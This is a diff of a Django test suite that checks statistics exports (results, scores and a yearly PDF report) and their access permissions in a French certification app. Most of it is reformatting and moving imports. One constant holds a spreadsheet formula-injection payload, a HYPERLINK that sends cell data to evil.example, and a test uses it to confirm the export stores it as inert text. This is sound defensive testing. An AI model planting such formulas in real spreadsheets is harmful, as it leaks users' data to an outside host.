@@ -3,24 +3,27 @@ exports (results, scores, yearly report) and their permissions."""
 
 import csv
 import io
-from urllib.parse import urlencode
+from datetime import datetime
 
 import openpyxl
 from django.test import TestCase
 from django.urls import reverse
 from pypdf import PdfReader
 
+from certif.roles import Role
+from evaluations.jury.models import Affectation, MembreJury
+from evaluations.notation.models import Evaluation
 from evaluations.statistiques.models import Export
+from referentiel.models import Critere
 from tests.evaluations.statistiques.factories import make_world
 from tests.factories import make_user
-from certif.roles import Role
 
 INJECTION = '=HYPERLINK("http://evil.example/?x="&A1;"Cliquez")'
 
 
 def read_csv(content: bytes) -> list[list[str]]:
     self_bom = content.startswith(b"\xef\xbb\xbf")
-    assert self_bom, "the CSV starts with a UTF-8 BOM"  # noqa: S101
+    assert self_bom, "the CSV starts with a UTF-8 BOM"
     return list(csv.reader(io.StringIO(content.decode("utf-8-sig")), delimiter=";"))
 
 
@@ -75,9 +78,7 @@ class StatistiquesViewTests(TestCase):
         response = self.client.get(self.url, {"session": self.w.session.pk})
         self.assertEqual(response.status_code, 400)
         self.assertEqual(response.context["tableaux"], [])
-        self.assertIn(
-            "Sélectionnez un choix valide", response.content.decode()
-        )
+        self.assertIn("Sélectionnez un choix valide", response.content.decode())
 
     def test_wrong_roles_and_method(self) -> None:
         for user in (
@@ -140,7 +141,9 @@ class StatistiquesViewTests(TestCase):
             ],
         )  # fmt: skip
         self.assertEqual(rows[4][8], "")
-        self.assertEqual(rows[8], ["Ensemble", "10", "7", "4", "2", "1", "1", "1", "57,1"])
+        self.assertEqual(
+            rows[8], ["Ensemble", "10", "7", "4", "2", "1", "1", "1", "57,1"]
+        )
 
     def test_masked_table_as_xlsx(self) -> None:
         self.client.force_login(self.w.admin)
@@ -167,7 +170,9 @@ class StatistiquesViewTests(TestCase):
         return export
 
     def download(self, export: Export) -> bytes:
-        response = self.client.get(reverse("evaluations:export_download", args=[export.pk]))
+        response = self.client.get(
+            reverse("evaluations:export_download", args=[export.pk])
+        )
         self.assertEqual(response.status_code, 200)
         self.assertEqual(response["Cache-Control"], "private, no-store")
         return b"".join(response.streaming_content)
@@ -192,10 +197,10 @@ class StatistiquesViewTests(TestCase):
             ],
         )  # fmt: skip
         self.assertEqual(len(rows), 11)
-        injected = [r for r in rows if r[6] == "c1@stats.fr"][0]
+        injected = next(r for r in rows if r[6] == "c1@stats.fr")
         # Written as text, read back as the very same text, never as a formula.
         self.assertEqual(injected[2], INJECTION.upper())
-        cell = [c for c in sheet["C"] if c.value == INJECTION.upper()][0]
+        cell = next(c for c in sheet["C"] if c.value == INJECTION.upper())
         self.assertEqual(cell.data_type, "s")
         self.assertEqual(
             injected[7:12],
@@ -207,21 +212,23 @@ class StatistiquesViewTests(TestCase):
                 "B1, B2",
             ],
         )
-        n1 = [r for r in rows if r[6] == "n1@stats.fr"][0]
-        self.assertEqual(n1[8:12], ["Blocs de compétences (capitalisation)", "B2", "Non validé", None])
-        d1 = [r for r in rows if r[6] == "d1@stats.fr"][0]
+        n1 = next(r for r in rows if r[6] == "n1@stats.fr")
+        self.assertEqual(
+            n1[8:12],
+            ["Blocs de compétences (capitalisation)", "B2", "Non validé", None],
+        )
+        d1 = next(r for r in rows if r[6] == "d1@stats.fr")
         self.assertIsNone(d1[10])
-        self.assertEqual(d1[14].date().isoformat(), "2026-05-01")
+        # A spreadsheet has no time zones: the date as written, read back naive.
+        self.assertEqual(d1[14], datetime(2026, 5, 1, 0, 0))  # noqa: DTZ001
 
     def test_scores_export(self) -> None:
-        from evaluations.jury.models import Affectation, MembreJury
-        from evaluations.notation.models import Evaluation
-        from referentiel.models import Critere
-
         inscription = self.w.inscriptions["p1"]
         membre = MembreJury.objects.get(session=self.w.session, user=self.w.membre)
         affectation = Affectation.objects.create(membre=membre, inscription=inscription)
-        for critere in Critere.objects.filter(referentiel=self.w.referentiel).order_by("code"):
+        for critere in Critere.objects.filter(referentiel=self.w.referentiel).order_by(
+            "code"
+        ):
             Evaluation.objects.create(
                 affectation=affectation,
                 critere=critere,
@@ -259,9 +266,10 @@ class StatistiquesViewTests(TestCase):
         self.assertEqual(export.statut, Export.Statut.TERMINE)
         self.assertEqual(export.nom_fichier, "rapport-RNCP99999-2022-2026.pdf")
         text = "\n".join(
-            page.extract_text() for page in PdfReader(io.BytesIO(self.download(export))).pages
+            page.extract_text()
+            for page in PdfReader(io.BytesIO(self.download(export))).pages
         )
-        self.assertIn("Rapport statistique 2022–2026", text)
+        self.assertIn("Rapport statistique 2022\N{EN DASH}2026", text)
         self.assertIn("Indicateur 2022 2023 2024 2025 2026", text)
         self.assertIn("Inscrits 0 0 0 1 10", text)
         self.assertIn("Certifiés 0 0 0 1 4", text)
@@ -291,7 +299,9 @@ class StatistiquesViewTests(TestCase):
             )
         self.client.force_login(self.w.membre)
         self.assertEqual(
-            self.client.get(reverse("evaluations:export_detail", args=[export.pk])).status_code,
+            self.client.get(
+                reverse("evaluations:export_detail", args=[export.pk])
+            ).status_code,
             403,
         )
 
@@ -302,8 +312,12 @@ class StatistiquesViewTests(TestCase):
         self.assertEqual(response.status_code, 200)
         self.assertContains(response, "1 / 1 ligne écrite")
         self.assertContains(response, "Télécharger resultats-")
-        response = self.client.get(export.get_absolute_url(), headers={"HX-Request": "true"})
-        self.assertTrue(response.content.decode().lstrip().startswith('<div id="progression"'))
+        response = self.client.get(
+            export.get_absolute_url(), headers={"HX-Request": "true"}
+        )
+        self.assertTrue(
+            response.content.decode().lstrip().startswith('<div id="progression"')
+        )
 
     def test_unknown_nature_refused(self) -> None:
         self.client.force_login(self.w.admin)
